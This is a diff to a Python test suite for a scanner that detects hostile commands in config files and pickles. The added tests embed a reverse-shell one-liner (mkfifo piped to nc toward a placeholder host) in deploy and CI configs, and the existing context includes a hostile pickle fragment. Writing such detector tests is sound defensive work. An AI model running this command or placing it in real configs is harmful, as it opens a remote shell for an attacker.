@@ -230,3 +230,37 @@ def test_a_pickle_that_breaks_after_a_hostile_call_is_found_under_any_name(name)
     attributes = b"X\x1e\0\0\0__class__.__init__.__globals__tRt"
     broken = b"\x80\x02" + walk + attributes + b"\xff"
     assert scan_source(name, BytesSource(broken)).verdict is Verdict.MALICIOUS
+
+
+_SHELL = "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc files.example 99 >/tmp/f"
+
+
+@each(
+    ("name", "text"),
+    [
+        ("app.json", json.dumps({"scripts": {"postdeploy": _SENT[0]}})),
+        ("taskdef.json", json.dumps({"containers": [{"command": ["sh", "-c", _SHELL]}]})),
+        ("job.json", json.dumps({"tasks": [{"step": {"any_name": _TAKEN_OVER[4]}}]})),
+        ("appveyor.yml", f"build_script:\n- sh: |\n    {_TAKEN_OVER[0]}\n"),
+        ("any.yaml", f"a:\n  b: {json.dumps(_SENT[2])}\n"),
+        ("ci.yml", f"blocks:\n- commands: [{json.dumps(_SHELL)}]\n"),
+        ("fly.toml", f"[deploy]\nrelease_command = {json.dumps(_TAKEN_OVER[6])}\n"),
+        (".replit", f"run = {json.dumps(_SHELL)}\n"),
+    ],
+)
+def test_a_hostile_command_is_found_under_any_key(name, text):
+    assert _scan(name, text) is Verdict.MALICIOUS
+
+
+@each(
+    ("name", "text"),
+    [
+        ("rule.yaml", f"description: {json.dumps(_SHELL)}\n"),
+        ("rules.json", json.dumps({"patterns": [{"regex": _SHELL}]})),
+        ("set.json", json.dumps([{"prompt": "What does it do?", "response": _SENT[2]}])),
+        ("a.yaml", f"say: {json.dumps('Never type ' + _SHELL)}\n"),
+        ("b.toml", f"check = {json.dumps(_HONEST[3])}\n"),
+    ],
+)
+def test_a_text_about_commands_is_none(name, text):
+    assert _scan(name, text) is not Verdict.MALICIOUS
